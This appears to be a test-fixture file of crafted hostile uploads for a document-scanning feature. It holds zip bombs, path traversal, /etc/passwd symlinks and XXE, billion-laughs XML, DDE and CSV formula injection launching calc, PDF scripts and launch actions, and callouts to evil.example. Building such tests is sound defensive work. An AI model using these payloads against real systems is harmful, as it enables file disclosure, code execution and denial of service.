import { deflateSync } from 'node:zlib';
import {
  docxOf,
  endless,
  packed,
  pdfOf,
  pdfShowing,
  showing,
  withText,
  zipOf,
} from '@duebook/platform/testing';
import {
  claiming,
  OLE_DIRECTORY,
  oleOf,
  overlapping,
  pngOf,
  tiffInACircle,
  withEncryptedEntries,
  withSymlink,
} from './crafted-archives';
import {
  CSV,
  DOCX,
  HTML,
  kept,
  PDF,
  TYPE_REFUSED,
  upload,
  XLS,
  XLSX,
  XML,
  type HostileUpload,
} from './hostile-upload';

const RELS = (body: string): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`;
const OUTSIDE = (type: string): string =>
  RELS(
    `<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/x" TargetMode="External"/>`,
  );
const WORKBOOK = {
  '[Content_Types].xml': '<Types/>',
  '_rels/.rels': RELS('<Relationship Id="r1" Type="x/officeDocument" Target="xl/workbook.xml"/>'),
  'xl/workbook.xml': '<workbook><sheets><sheet name="S" id="r1"/></sheets></workbook>',
  'xl/_rels/workbook.xml.rels': RELS(
    '<Relationship Id="r1" Type="x/worksheet" Target="sheet1.xml"/>',
  ),
  'xl/sheet1.xml':
    '<worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>',
};
const script = (action: string) => () =>
  pdfShowing(showing('Pay'), { catalogue: '/OpenAction 6 0 R', more: [action] });
/** An archive in an archive in an archive, each of them ten times over. */
const nested = (levels: number): Buffer => {
  let inner = zipOf({ '0.txt': Buffer.alloc(4 * 1_048_576, '0') });
  for (let level = 1; level < levels; level += 1) {
    const parts = Array.from({ length: 10 }, (_, n) => [`${level}-${n}.zip`, inner] as const);
    inner = zipOf(Object.fromEntries(parts));
  }
  return inner;
};

/** Archives that are larger than they look, lead outside, or lie. */
export const ARCHIVES: readonly HostileUpload[] = [
  upload('an archive', 'a.zip', () => zipOf({ 'a.txt': 'a' }), TYPE_REFUSED),
  upload('a bomb of archives in archives', 'a.zip', () => nested(4), TYPE_REFUSED),
  upload(
    'an archive that calls itself a letter',
    'a.docx',
    () => zipOf({ 'a.exe': 'MZ', 'word/document.xml': '<x/>' }),
    TYPE_REFUSED,
  ),
  upload(
    'a letter that unpacks to far more',
    'a.docx',
    () => docxOf(['x'], { 'word/fill.xml': Buffer.alloc(40 * 1_048_576, ' ') }),
    kept(DOCX, 'TOO_LARGE'),
  ),
  upload(
    'a letter whose parts overlap',
    'a.docx',
    () => overlapping(400, 8 * 1_048_576),
    kept(DOCX, 'TOO_LARGE'),
  ),
  upload(
    'a letter with archives of archives in it',
    'a.docx',
    () => docxOf(['Quietly'], { 'word/embeddings/oleObject1.bin': nested(3) }),
    kept(DOCX, 'READ', ['EMBEDDED_FILES']),
  ),
  upload(
    'a letter that says a part is small',
    'a.docx',
    () =>
      zipOf(
        {
          '[Content_Types].xml': '<Types/>',
          'word/document.xml': `<w:document xmlns:w="x">${' '.repeat(30 * 1_048_576)}</w:document>`,
        },
        { 'word/document.xml': 100 },
      ),
    kept(DOCX, 'DAMAGED'),
  ),
  upload(
    'a letter with a part outside of it',
    'a.docx',
    () => docxOf(['x'], { '../../../../etc/cron.d/evil': 'x' }),
    kept(DOCX, 'DAMAGED'),
  ),
  upload(
    'a letter with a link to a file of the system',
    'a.docx',
    () =>
      withSymlink(
        docxOf(['Linked'], { 'word/media/image1.png': '/etc/passwd' }),
        'word/media/image1.png',
      ),
    kept(DOCX, 'READ'),
  ),
  upload(
    'a workbook under a password of its archive',
    'a.xlsx',
    () => withEncryptedEntries(zipOf(WORKBOOK)),
    kept(XLSX, 'DAMAGED'),
  ),
  upload(
    'a workbook under a password of Office',
    'a.xlsx',
    () => oleOf(['EncryptionInfo', 'EncryptedPackage']),
    TYPE_REFUSED,
  ),
  upload(
    'a workbook of too many parts',
    'a.xlsx',
    () =>
      zipOf({
        ...WORKBOOK,
        ...Object.fromEntries(Array.from({ length: 10_100 }, (_, n) => [`xl/p${n}.xml`, ''])),
      }),
    kept(XLSX, 'TOO_LARGE'),
  ),
];

/** Office documents that run or fetch something, and markup that unfolds. */
export const OFFICE_TRAPS: readonly HostileUpload[] = [
  upload(
    'a letter with macros',
    'a.docx',
    () => docxOf(['x'], { 'word/vbaProject.bin': 'x' }),
    kept(DOCX, 'READ', ['MACROS']),
  ),
  upload(
    'a workbook with macros of Excel 4',
    'a.xlsx',
    () => zipOf({ ...WORKBOOK, 'xl/macrosheets/sheet1.xml': '<x/>' }),
    kept(XLSX, 'NO_TEXT', ['MACROS']),
  ),
  upload(
    'an old workbook with macros',
    'a.xls',
    () => oleOf(['Workbook', '_VBA_PROJECT_CUR', 'VBA', '_VBA_PROJECT']),
    kept(XLS, 'TYPE_NOT_READ', ['MACROS']),
  ),
  upload(
    'a letter whose template is elsewhere',
    'a.docx',
    () => docxOf(['x'], { 'word/_rels/settings.xml.rels': OUTSIDE('attachedTemplate') }),
    kept(DOCX, 'READ', ['EXTERNAL_CONTENT']),
  ),
  upload(
    'a letter that starts a program by DDE, in two runs',
    'a.docx',
    () =>
      docxOf([
        '</w:t><w:fldChar w:fldCharType="begin"/><w:instrText>DDEA</w:instrText><w:instrText>UTO c:\\\\windows\\\\cmd.exe</w:instrText><w:t>',
      ]),
    kept(DOCX, 'NO_TEXT', ['EXTERNAL_CONTENT']),
  ),
  upload(
    'a letter that starts a program by a simple field',
    'a.docx',
    () => docxOf(['</w:t><w:fldSimple w:instr="DDE cmd /c calc"/><w:t>']),
    kept(DOCX, 'NO_TEXT', ['EXTERNAL_CONTENT']),
  ),
  upload(
    'a workbook that asks a program by DDE',
    'a.xlsx',
    () =>
      zipOf({
        ...WORKBOOK,
        'xl/externalLinks/externalLink1.xml':
          '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
      }),
    kept(XLSX, 'NO_TEXT', ['EXTERNAL_CONTENT']),
  ),
  upload(
    'a letter with entities in entities',
    'a.docx',
    () =>
      docxOf(['x'], {
        'word/document.xml': `<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document xmlns:w="x"><w:t>&b;</w:t></w:document>`,
      }),
    kept(DOCX, 'DAMAGED'),
  ),
  upload(
    'XML that asks for a file of the system',
    'a.xml',
    () => '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    kept(XML, 'READ'),
  ),
  upload(
    'XML of a billion laughs',
    'a.xml',
    () =>
      `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY l0 "ha">${Array.from({ length: 30 }, (_, n) => `<!ENTITY l${n + 1} "&l${n};&l${n};">`).join('')}]><a>&l30;</a>`,
    kept(XML, 'READ'),
  ),
  upload(
    'XML of a hundred thousand levels',
    'a.xml',
    () => `<?xml version="1.0"?>${'<a>'.repeat(100_000)}`,
    kept(XML, 'NO_TEXT'),
  ),
  upload(
    'a table with a command in a cell',
    'a.csv',
    () => "a,b\n=cmd|'/c calc'!A0,1\n",
    kept(CSV, 'READ'),
  ),
];

/** PDFs that run, bring or become something, and pictures that claim to be large. */
export const PAPERS: readonly HostileUpload[] = [
  upload(
    'a PDF with a script',
    'a.pdf',
    script('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),
    kept(PDF, 'READ', ['SCRIPTS']),
  ),
  upload(
    'a PDF with a script in disguise',
    'a.pdf',
    script('<< /S /J#61vaScript /J#53 (1) >>'),
    kept(PDF, 'READ', ['SCRIPTS']),
  ),
  upload(
    'a PDF that starts a program',
    'a.pdf',
    script('<< /S /Launch /F (cmd.exe) >>'),
    kept(PDF, 'READ', ['LAUNCHES_PROGRAMS']),
  ),
  upload(
    'a PDF that sends what is in it',
    'a.pdf',
    script('<< /S /SubmitForm /F (http://evil.example) >>'),
    kept(PDF, 'READ', ['EXTERNAL_CONTENT']),
  ),
  upload(
    'a PDF with a form of scripts',
    'a.pdf',
    () =>
      pdfShowing(showing('Form'), {
        catalogue: '/AcroForm << /XFA 6 0 R /Fields [] >>',
        more: ['<< /Length 0 >>\nstream\n\nendstream'],
      }),
    kept(PDF, 'READ', ['SCRIPTS']),
  ),
  upload(
    'a PDF with a program in it',
    'a.pdf',
    () => {
      const file = deflateSync(Buffer.from('MZ'));
      return pdfShowing(showing('Inside'), {
        catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
        more: [
          '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
          `<< /Type /EmbeddedFile /Length ${file.length} /Filter /FlateDecode >>\nstream\n${file.toString('latin1')}\nendstream`,
        ],
      });
    },
    kept(PDF, 'READ', ['EMBEDDED_FILES']),
  ),
  upload(
    'a PDF that unpacks to 300 MB',
    'a.pdf',
    async () => pdfShowing(packed(await endless(300))),
    kept(PDF, 'TOO_LARGE|TIME_EXHAUSTED|MEMORY_EXHAUSTED'),
  ),
  upload(
    'a PDF that is packed twice',
    'a.pdf',
    async () => pdfShowing(packed(deflateSync(await endless(200)), '[/FlateDecode /FlateDecode]')),
    kept(PDF, 'TOO_LARGE|TIME_EXHAUSTED|MEMORY_EXHAUSTED'),
  ),
  upload(
    'a PDF whose pages lead in a circle',
    'a.pdf',
    () => withText(pdfShowing(showing('Round')), '/Kids [3 0 R]', '/Kids [2 0 R]'),
    kept(PDF, 'DAMAGED|TIME_EXHAUSTED|MEMORY_EXHAUSTED'),
  ),
  upload(
    'a PDF of two billion pages',
    'a.pdf',
    () =>
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        '<< /Type /Pages /Kids [2 0 R] /Count 2147483647 >>',
      ]),
    kept(PDF, 'DAMAGED|TIME_EXHAUSTED'),
  ),
  upload(
    'a PDF under a password',
    'a.pdf',
    () => {
      const text = `(${'x'.repeat(32)})`;
      return pdfShowing(showing('Secret'), {
        more: [`<< /Filter /Standard /V 1 /R 2 /O ${text} /U ${text} /P -4 >>`],
        trailer: '/Encrypt 6 0 R /ID [(a) (a)]',
      });
    },
    kept(PDF, 'ENCRYPTED'),
  ),
  upload(
    'a PDF cut off',
    'a.pdf',
    () => pdfOf(['<< /Type /Catalog']).subarray(0, 30),
    kept(PDF, 'DAMAGED'),
  ),
  upload(
    'a picture of ten billion pixels',
    'a.png',
    () => pngOf(100_000, 100_000),
    kept('image/png', 'NO_TEXT'),
  ),
  upload(
    'a picture whose pages lead in a circle',
    'a.tif',
    () => tiffInACircle(),
    kept('image/tiff', 'NO_TEXT'),
  ),
  upload(
    'a picture with a script behind it',
    'a.png',
    () => Buffer.concat([pngOf(1, 1), Buffer.from(HTML)]),
    kept('image/png', 'NO_TEXT'),
  ),
  upload(
    'an old workbook whose directory is nowhere',
    'a.xls',
    () => claiming(oleOf(OLE_DIRECTORY), 48, 0xfffffff0),
    TYPE_REFUSED,
  ),
];
